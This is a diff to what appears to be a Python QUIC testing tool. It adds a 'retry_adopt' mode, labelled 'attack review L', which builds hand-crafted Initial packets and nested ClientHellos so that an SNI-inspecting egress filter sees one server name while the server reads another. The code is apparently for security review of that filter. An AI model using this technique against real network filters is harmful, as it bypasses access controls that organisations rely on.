@@ -22,6 +22,10 @@ MODE: onepacket (default): CH1+CH2 in one CRYPTO frame of one Initial
       evict: CH1 alone; after the HelloRetryRequest 300 other flows, each with an Initial naming
              SNI1 (each waited for until the server answers or the deadline), then the same
              hello-with-CH2-as-its-tail as `diverge` in an ordinary Initial
+      retry_adopt: CH1 alone; after the HelloRetryRequest, from a new source port, a fresh
+             connection whose longer hello names SNI1, then an Initial "after a Retry" under the
+             first connection's ID carrying, where the server waits, a hello naming SNI2
+             (attack review L)
       detour, detour_scid, detour_v2: CH1 alone; after the HelloRetryRequest another
              connection's first Initial on the four-tuple (a new Destination Connection ID with
              its own keys and a hello naming SNI1; or the server's own connection ID with keys
@@ -358,7 +362,7 @@ def main(addr, port, sni1, sni2, mode="onepacket"):
     elif mode in ("detour", "detour_scid", "detour_v2"):
         pl = b"\x06" + varint(0) + varint(len(ch1)) + ch1
         sent.append(seal_long(cik, 0, dcid, scid, 0, pl, pad_to=1200))
-    elif mode in ("migrate", "migrate_ack", "expire"):
+    elif mode in ("migrate", "migrate_ack", "expire", "retry_adopt"):
         pl = b"\x06" + varint(0) + varint(len(ch1)) + ch1
         sent.append(seal_long(cik, 0, dcid, scid, 0, pl, pad_to=1200))
     elif mode == "evict":  # CH1 alone; after the HRR: 300 other admitted flows, then CHx
@@ -479,6 +483,50 @@ def main(addr, port, sni1, sni2, mode="onepacket"):
                     pl = b"\x02" + varint(0) + varint(0) + varint(0) + varint(0)
                     pl += b"\x06" + varint(0) + varint(len(chx)) + chx
                     s.send(seal_long(cik, 0, dcid, scid, 1, pl, pad_to=1200))
+                    res["ch2_sent"] = True
+                if mode == "retry_adopt" and not res.get("ch2_sent"):
+                    # Attack review L: the old socket ACKs the server's Initial; from a NEW socket,
+                    # (1) a fresh connection D2 whose longer hello A2 names sni1 (admitted: D2 is
+                    # new; the server's answer to it is awaited), then (2) on that flow an Initial
+                    # "after a Retry": the FIRST connection's ID and keys, a token, CRYPTO from
+                    # len(CH1) = A2[len(CH1):] + X, where X is a whole hello naming sni1 (what a
+                    # reader that kept A2 as the stream judges as a second hello) and
+                    # A2[len(CH1):] + X is HB, a hello naming sni2 (what the server reads).
+                    s.send(seal_long(cik, 0, dcid, scid, 1, b"\x02" + varint(0) + varint(0) + varint(0) + varint(0),
+                                     pad_to=1200))
+                    x = client_hello(sni1, os.urandom(32), pub, tp)
+                    hb_exts = ext(0, u16(b"\x00" + u16(sni2.encode())))
+                    hb_exts += ext(43, u8(b"\x03\x04"))
+                    hb_exts += ext(10, u16(b"\x00\x1d"))
+                    hb_exts += ext(13, u16(b"\x04\x03\x08\x04\x04\x01\x08\x05\x08\x06\x05\x03"))
+                    hb_exts += ext(51, u16(b"\x00\x1d" + u16(pub)))
+                    hb_exts += ext(45, u8(b"\x01"))
+                    hb_exts += ext(16, u16(u8(b"h3")))
+                    hb_exts += ext(0x39, tp)
+                    hb_exts += ext(0x7a7a, x)
+                    hb = b"\x01" + u24(b"\x03\x03" + rnd + u8(b"") + u16(b"\x13\x01") + b"\x01\x00" + u16(hb_exts))
+                    a2 = hello_embedding(sni1, os.urandom(32), tp, len(ch1), hb[:-len(x)])
+                    s2 = socket.socket(fam, socket.SOCK_DGRAM)
+                    s2.connect((addr, port))
+                    socks.append(s2)
+                    res["new_sport"] = s2.getsockname()[1]
+                    res["old_sport"] = s.getsockname()[1]
+                    d2 = os.urandom(8)
+                    s2.send(seal_long(PKeys(initial_secrets(d2)[0]), 0, d2, os.urandom(8), 0,
+                                      b"\x06" + varint(0) + varint(len(a2)) + a2, pad_to=1200))
+                    s2.settimeout(5.0)
+                    try:
+                        s2.recv(65536)  # the server answered D2: egressd admitted it
+                        res["d2_answered"] = True
+                    except OSError as e:
+                        res["d2_answered"] = repr(e)
+                    pl = b"\x02" + varint(0) + varint(0) + varint(0) + varint(0)
+                    pl += b"\x06" + varint(len(ch1)) + varint(len(hb)) + hb
+                    try:
+                        s2.send(seal_long(cik, 0, dcid, scid, 2, pl, pad_to=1200, token=os.urandom(16)))
+                    except OSError as e:
+                        res["retry_send"] = e.errno
+                    ch2 = hb
                     res["ch2_sent"] = True
                 if mode in ("migrate", "migrate_ack") and not res.get("ch2_sent"):
                     # The first connection's next Initial (its DCID and keys) from a NEW socket (a
